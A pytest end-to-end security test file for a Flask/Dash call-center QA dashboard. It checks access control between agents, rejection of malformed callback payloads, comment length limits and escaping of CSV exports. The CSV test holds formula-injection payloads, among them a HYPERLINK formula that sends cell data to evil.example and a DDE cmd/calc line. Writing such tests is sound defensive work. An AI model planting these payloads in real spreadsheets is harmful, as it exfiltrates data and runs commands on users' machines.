"""Through the real Flask/Dash server, signed in as agent aiko (A007): forged drill-downs, table state, filters and
interaction ids return nothing of another agent's; malformed payloads get 400 with a JSON reason; CSV exports
are escaped."""

from __future__ import annotations

import csv
import io

import pytest

import warehouse
from dashboards import payloads
from tests.e2e.dashboard_client import call, callback_body, sign_in
from tests.e2e.test_dashboard_http import FILTERS, app  # noqa: F401 - the module's app fixture
from warehouse import app_store

pytestmark = pytest.mark.e2e
MINE, OTHER = "A007", "A018"
BASE = {**FILTERS, "shell-lang.value": "en"}


@pytest.fixture(scope="module")
def other(app) -> dict[str, str]:  # noqa: F811
    """One of A018's interactions in the period (with its team and local day), and one of A007's."""
    snapshot = app.server.config["KOE"].snapshot_path
    sql = ("select interaction_id, team, cast(timezone('Asia/Tokyo', created_at at time zone 'UTC') as date)::varchar"
           " from core.interactions where agent_id = $a and created_at between '2026-10-06' and '2026-10-17'"
           " order by 1 limit 1")
    scored = ("select interaction_id from qa.criteria where interaction_id in"
              " (select interaction_id from core.interactions where agent_id = $a) order by 1 limit 1")
    with warehouse.connect(snapshot, read_only=True, migrate=False) as conn:
        theirs = conn.execute(sql, {"a": OTHER}).fetchone()
        mine = conn.execute(scored, {"a": MINE}).fetchone()
        my_team = conn.execute("select any_value(team) from core.interactions where agent_id = $a", {"a": MINE}).fetchone()
    assert theirs and mine and theirs[1] != my_team[0]
    return {"id": theirs[0], "team": theirs[1], "day": theirs[2], "mine": mine[0]}


def _agent(app):  # noqa: ANN202, F811 - a signed-in test client
    client = app.server.test_client()
    assert sign_in(client, "aiko").status_code == 302
    return client


def _text(response) -> str:  # noqa: ANN001
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data(as_text=True)


def test_a_forged_agents_table_row_lists_none_of_another_agents_interactions(app, other) -> None:  # noqa: F811
    body = call(_agent(app), app, "agents-drill-title.children", {
        **BASE, "agents-table.cellClicked": {"rowId": OTHER, "colId": "agent_name", "rowIndex": 0}})
    answer = body.get_json()["response"]
    assert answer["agents-drill-table"]["rowData"] == []  # before the fix: every interaction of A018 (195 in the demo)
    assert other["id"] not in _text(body)


def test_a_forged_trend_click_lists_only_the_agents_own_interactions(app, other) -> None:  # noqa: F811
    values = {**BASE, "agents-trend.clickData": {"points": [{"customdata": [other["day"]]}]}}
    body = callback_body(app, "agents-drill-title.children", values)
    body["changedPropIds"] = ["agents-trend.clickData"]
    client = _agent(app)
    response = client.post("/_dash-update-component", json=body, headers={"X-CSRFToken": _agent_csrf(app, client)})
    text = _text(response)
    assert OTHER not in text and other["id"] not in text


def _agent_csrf(app, client) -> str:  # noqa: ANN001, F811
    return client.get_cookie("_csrf_token").value


@pytest.mark.parametrize("output", ["agents-table.rowData", "qa-queue.rowData", "agents-drill-title.children"])
def test_another_teams_filter_gives_nothing_of_that_team(app, other, output: str) -> None:  # noqa: F811
    values = {**BASE, "filters-team.value": [other["team"]], "agents-table.cellClicked": {"rowId": MINE}}
    text = _text(call(_agent(app), app, output, values))
    assert OTHER not in text and other["id"] not in text


def test_another_agents_interaction_id_opens_nothing_and_takes_no_dispute(app, other) -> None:  # noqa: F811
    client = _agent(app)
    header = _text(call(client, app, "interaction-header.children", {"interaction-id.data": other["id"], **BASE}))
    assert "You may not see this interaction" in header and other["team"] not in header
    dispute = callback_body(app, "interaction-status.children", {
        "interaction-id.data": other["id"], "interaction-dispute.n_clicks": 1, "interaction-comment.value": "not me",
        "interaction-answer.value": "pass", "shell-lang.value": "en"})
    dispute["changedPropIds"] = ["interaction-dispute.n_clicks"]
    refused = client.post("/_dash-update-component", json=dispute, headers={"X-CSRFToken": _agent_csrf(app, client)})
    assert "You may not see this page" in _text(refused)
    assert app_store.list_rows(app.server.config["KOE"].app_db, "qa_disputes", other["id"]) == []
    assert client.get(f"/recordings/{other['id']}").status_code == 404


def test_outputs_that_do_not_match_the_callback_are_refused(app) -> None:  # noqa: F811
    """The guard authorises the body's outputs; Dash runs the callback named by 'output': they must agree."""
    body = callback_body(app, "staffing-chart.figure", BASE)
    body["outputs"] = [{"id": "shell-user", "property": "children"}]
    client = _agent(app)
    response = client.post("/_dash-update-component", json=body, headers={"X-CSRFToken": _agent_csrf(app, client)})
    assert response.status_code == 400 and "outputs" in response.get_json()["reason"]


MALFORMED = {  # output fragment, values: each gave a 500 (or was stored) before the server checked it
    "answer maybe": ("interaction-status.children", {"interaction-answer.value": "maybe"}),
    "interaction id object": ("interaction-header.children", {"interaction-id.data": {"$ne": ""}}),
    "clicked row id an object": ("agents-drill-title.children", {"agents-table.cellClicked": {"rowId": {"$ne": ""}}}),
    "clicked row without id": ("agents-drill-title.children", {"agents-table.cellClicked": {"rowIndex": 5}}),
    "click not an object": ("agents-drill-title.children", {"agents-table.cellClicked": "rows"}),
    "start date garbage": ("agents-table.rowData", {"filters-dates.start_date": "yesterday"}),
    "channel not a list": ("agents-table.rowData", {"filters-channel.value": 5}),
    "language unknown": ("agents-table.rowData", {"shell-lang.value": "xx"}),
    "pathname not a path": ("shell-content.children", {"shell-url.pathname": ["/agents"]}),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_values_get_400_with_a_reason(app, other, case: str) -> None:  # noqa: F811
    client = app.server.test_client()
    sign_in(client, "quinn")  # a QA reviewer may run every callback below
    fragment, values = MALFORMED[case]
    defaults = {"interaction-id.data": other["id"], "interaction-save.n_clicks": 1,
                "interaction-criterion.value": "ja_call_center:closing_greeting", "interaction-answer.value": "pass"}
    response = call(client, app, fragment, {**BASE, **defaults, **values})
    assert response.status_code == 400, (case, response.status_code, response.get_data(as_text=True)[:300])
    assert response.get_json()["error"] == "bad_request" and response.get_json()["reason"]


@pytest.mark.parametrize("body", [None, [], {"output": "nope"}, {"output": 5}, "text"])
def test_bodies_that_name_no_callback_get_400(app, body: object) -> None:  # noqa: F811
    client = _agent(app)
    response = client.post("/_dash-update-component", json=body, headers={"X-CSRFToken": _agent_csrf(app, client)})
    assert response.status_code == 400 and response.get_json()["error"] == "bad_request"


def _override(client, app, interaction_id: str, comment: str, criterion: str = "ja_call_center:closing_greeting"):  # noqa: ANN001, ANN202, F811
    return call(client, app, "interaction-status.children", {
        "interaction-id.data": interaction_id, "interaction-save.n_clicks": 1, "interaction-criterion.value": criterion,
        "interaction-answer.value": "fail", "interaction-comment.value": comment, "shell-lang.value": "en"})


def test_a_review_comment_over_the_limit_is_refused_and_not_stored(app, other) -> None:  # noqa: F811
    client = app.server.test_client()
    sign_in(client, "quinn")
    db = app.server.config["KOE"].app_db
    before = len(app_store.list_rows(db, "qa_overrides", other["mine"]))
    too_long = _override(client, app, other["mine"], "x" * (payloads.COMMENT_MAX_CHARS + 1))
    assert too_long.status_code == 400 and "comment" in too_long.get_json()["reason"]
    assert _override(client, app, other["mine"], "x" * 100_000).status_code == 400
    assert _override(client, app, other["mine"], "ok", criterion="ja_call_center:no_such_criterion").status_code == 400
    assert len(app_store.list_rows(db, "qa_overrides", other["mine"])) == before
    assert "Saved" in _text(_override(client, app, other["mine"], "x" * payloads.COMMENT_MAX_CHARS))
    stored = app_store.list_rows(db, "qa_overrides", other["mine"])
    assert len(stored) == before + 1 and len(stored[0]["comment"]) == payloads.COMMENT_MAX_CHARS


def test_the_comment_limit_is_the_forms_max_length(app, other) -> None:  # noqa: F811
    client = app.server.test_client()
    sign_in(client, "quinn")
    page = _text(call(client, app, "shell-content.children", {"shell-url.pathname": f"/interactions/{other['mine']}",
                                                               "shell-lang.value": "en"}))
    assert f'"maxLength": {payloads.COMMENT_MAX_CHARS}' in page or f'"maxLength":{payloads.COMMENT_MAX_CHARS}' in page


def test_csv_export_escapes_formula_cells_and_keeps_numbers(app) -> None:  # noqa: F811
    subjects = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    rows = [{"subject": subject, "aht_seconds": -3.5} for subject in subjects]
    response = call(_agent(app), app, "agents-drill-table-download.data", {
        "agents-drill-table-csv.n_clicks": 1, "agents-drill-table.virtualRowData": rows,
        "agents-drill-table.columnDefs": [{"headerName": "subject", "field": "subject"},
                                          {"headerName": "aht_seconds", "field": "aht_seconds"}]})
    download = _text(response)
    content = response.get_json()["response"]["agents-drill-table-download"]["data"]["content"]
    cells = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
    assert cells[0] == ["subject", "aht_seconds"] and "click me" in download
    assert [row[0] for row in cells[1:]] == ["'" + subject for subject in subjects]
    assert {row[1] for row in cells[1:]} == {"-3.5"}


def test_every_table_has_a_server_side_escaped_export(app) -> None:  # noqa: F811
    from dashboards import ids

    for table in ids.EXPORTED_TABLES:
        assert any(f"{table}-download.data" in key for key in app.callback_map), table
